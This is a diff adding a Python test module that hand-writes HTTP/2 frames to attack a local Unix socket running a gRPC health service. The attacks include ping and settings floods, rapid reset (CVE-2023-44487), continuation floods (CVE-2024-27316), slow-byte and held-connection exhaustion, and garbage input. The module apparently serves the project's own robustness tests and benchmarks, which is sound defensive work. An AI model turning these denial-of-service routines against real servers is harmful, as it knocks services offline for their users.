@@ -1,0 +1,226 @@
+"""What a hostile local process does to a Unix socket of ours; each attack is a function of the socket's path and a moment to end at.
+
+They write HTTP/2 by hand, because no client library lets itself be used like this.
+bench/hostile.py and tests/flow/test_hostile_socket.py run them.
+"""
+
+import contextlib
+import socket
+import struct
+import time
+from collections.abc import Callable
+from itertools import cycle
+from pathlib import Path
+
+from hpack import Encoder
+
+__all__ = ["ATTACKS", "frame", "greeting", "request"]
+
+_DATA, _HEADERS, _RST, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
+_END_STREAM, _END_HEADERS = 0x1, 0x4
+_MOST_STREAMS = 2**30
+
+greeting = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + bytes([_SETTINGS, 0]) + bytes(4)
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    """One HTTP/2 frame."""
+    return len(payload).to_bytes(3, "big") + struct.pack(">BBL", kind, flags, stream) + payload
+
+
+def request(stream: int, method: str = "Check", *extra: tuple[str, str]) -> bytes:
+    """The headers of a call of the health service, in literals without indexing so that they can be repeated."""
+    fields = [
+        (":method", "POST"),
+        (":scheme", "http"),
+        (":path", f"/grpc.health.v1.Health/{method}"),
+        (":authority", "localhost"),
+        ("content-type", "application/grpc"),
+        ("te", "trailers"),
+        *extra,
+    ]
+    encoder = Encoder()
+    encoder.header_table_size = 0
+    return frame(
+        _HEADERS, _END_HEADERS, stream, encoder.encode(fields)[1:]
+    )  # without the table size update, legal only once
+
+
+def _connect(path: Path, hello: bytes = greeting) -> socket.socket:
+    sock = socket.socket(socket.AF_UNIX)
+    sock.settimeout(0.2)
+    sock.connect(str(path))
+    sock.sendall(hello)
+    return sock
+
+
+def _pour(path: Path, until: float, make: Callable[[int], bytes], *, reads: bool = True) -> None:
+    """Send batches as fast as they are taken, on a new connection whenever one is closed."""
+    while time.perf_counter() < until:
+        with contextlib.suppress(OSError), _connect(path) as sock:
+            for stream in range(1, _MOST_STREAMS, 256):
+                batch = memoryview(make(stream))
+                while batch and time.perf_counter() < until:
+                    with contextlib.suppress(TimeoutError):
+                        batch = batch[sock.send(batch) :]
+                    with contextlib.suppress(BlockingIOError):
+                        while reads and sock.recv(65536, socket.MSG_DONTWAIT):
+                            pass
+                if time.perf_counter() >= until:
+                    return
+
+
+def ping_flood(path: Path, until: float) -> None:
+    """PINGs, and their answers read."""
+    batch = frame(_PING, 0, 0, b"12345678") * 512
+    _pour(path, until, lambda _: batch)
+
+
+def ping_flood_unread(path: Path, until: float) -> None:
+    """PINGs, and their answers left in the socket."""
+    batch = frame(_PING, 0, 0, b"12345678") * 512
+    _pour(path, until, lambda _: batch, reads=False)
+
+
+def settings_flood(path: Path, until: float) -> None:
+    """SETTINGS, each of which must be acknowledged."""
+    batch = frame(_SETTINGS, 0, 0, struct.pack(">HL", 4, 65535)) * 512
+    _pour(path, until, lambda _: batch)
+
+
+def rapid_reset(path: Path, until: float) -> None:
+    """Calls begun and reset at once (CVE-2023-44487)."""
+    header = request(1)[9:]
+
+    def batch(first: int) -> bytes:
+        streams = range(first, first + 256, 2)
+        return b"".join(
+            frame(_HEADERS, _END_HEADERS, n, header) + frame(_RST, 0, n, struct.pack(">L", 8)) for n in streams
+        )
+
+    _pour(path, until, batch)
+
+
+def continuation_flood(path: Path, until: float) -> None:
+    """A header block without an end (CVE-2024-27316)."""
+    more = frame(_CONTINUATION, 0, 1, b"") * 64
+    _pour(path, until, lambda n: (frame(_HEADERS, 0, 1, b"") if n == 1 else b"") + more)
+
+
+def tiny_data(path: Path, until: float) -> None:
+    """One call, whose message comes in frames of one byte."""
+    more = frame(_DATA, 0, 1, b"x") * 64
+    _pour(path, until, lambda n: (request(1) if n == 1 else b"") + more)
+
+
+def length_prefix(path: Path, until: float) -> None:
+    """Messages that promise 4 GiB, and begin to deliver."""
+    prefix = b"\0\xff\xff\xff\xff" + bytes(16_000)
+
+    def batch(first: int) -> bytes:
+        return b"".join(request(n) + frame(_DATA, 0, n, prefix) for n in range(first, first + 8, 2))
+
+    _pour(path, until, batch)
+
+
+def garbage(path: Path, until: float) -> None:
+    """Bytes that are no HTTP/2, again and again."""
+    while time.perf_counter() < until:
+        for hello in (
+            b"GET / HTTP/1.1\r\n\r\n",
+            bytes(range(256)),
+            b"\x16\x03\x01" + bytes(512),
+            greeting + b"\xff" * 64,
+        ):
+            with contextlib.suppress(OSError), _connect(path, hello) as sock:
+                sock.recv(64)
+
+
+def connect_storm(path: Path, until: float) -> None:
+    """Connections, closed as soon as they stand."""
+    while time.perf_counter() < until:
+        with contextlib.suppress(OSError), _connect(path):
+            pass
+
+
+def silent(path: Path, until: float) -> None:
+    """As many connections as there may be, and not a byte."""
+    with contextlib.ExitStack() as held:
+        for _ in range(300):
+            with contextlib.suppress(OSError):
+                held.enter_context(_connect(path, b""))
+        _rest(until)
+
+
+def slow_bytes(path: Path, until: float) -> None:
+    """Many connections that greet and then send one byte of a call at a time."""
+    call = request(1) + frame(_DATA, 0, 1, b"\0\0\0\0\x10" + bytes(16))
+    with contextlib.ExitStack() as held:
+        socks = []
+        for _ in range(250):
+            with contextlib.suppress(OSError):
+                socks.append(held.enter_context(_connect(path)))
+        for at in cycle(range(len(call))):
+            for sock in socks:
+                with contextlib.suppress(OSError):
+                    sock.send(call[at : at + 1])
+            if time.perf_counter() >= until:
+                return
+            _rest(min(until, time.perf_counter() + 0.02))
+
+
+def held_calls(path: Path, until: float) -> None:
+    """As many calls as there may be, none of which ever sends its message."""
+    with contextlib.ExitStack() as held:
+        for _ in range(250):
+            with contextlib.suppress(OSError):
+                held.enter_context(_connect(path, greeting + b"".join(request(n) for n in range(1, 200, 2))))
+        _rest(until)
+
+
+def busy_calls(path: Path, until: float) -> None:
+    """Proper calls from many connections at once, as fast as they are taken."""
+    with contextlib.ExitStack() as held:
+        socks = [held.enter_context(_connect(path)) for _ in range(64)]
+        unsent = dict.fromkeys(socks, memoryview(b""))
+        following = dict.fromkeys(socks, 1)
+        while time.perf_counter() < until:
+            for sock in socks:
+                if not unsent[sock]:
+                    unsent[sock] = memoryview(_checks(following[sock]))
+                    following[sock] += 32
+                with contextlib.suppress(OSError):
+                    unsent[sock] = unsent[sock][sock.send(unsent[sock], socket.MSG_DONTWAIT) :]
+                with contextlib.suppress(OSError):
+                    sock.recv(65536, socket.MSG_DONTWAIT)
+            _rest(min(until, time.perf_counter() + 0.001))
+
+
+def _checks(first: int) -> bytes:
+    """Sixteen whole calls, and room for their answers."""
+    calls = (request(n) + frame(_DATA, _END_STREAM, n, b"\0\0\0\0\0") for n in range(first, first + 32, 2))
+    return b"".join(calls) + frame(_WINDOW_UPDATE, 0, 0, struct.pack(">L", 1024))
+
+
+def _rest(until: float) -> None:
+    time.sleep(max(0.0, until - time.perf_counter()))
+
+
+ATTACKS: dict[str, Callable[[Path, float], None]] = {
+    attack.__name__: attack
+    for attack in (
+        ping_flood,
+        ping_flood_unread,
+        settings_flood,
+        rapid_reset,
+        continuation_flood,
+        tiny_data,
+        length_prefix,
+        garbage,
+        connect_storm,
+        silent,
+        slow_bytes,
+        held_calls,
+        busy_calls,
+    )
+}
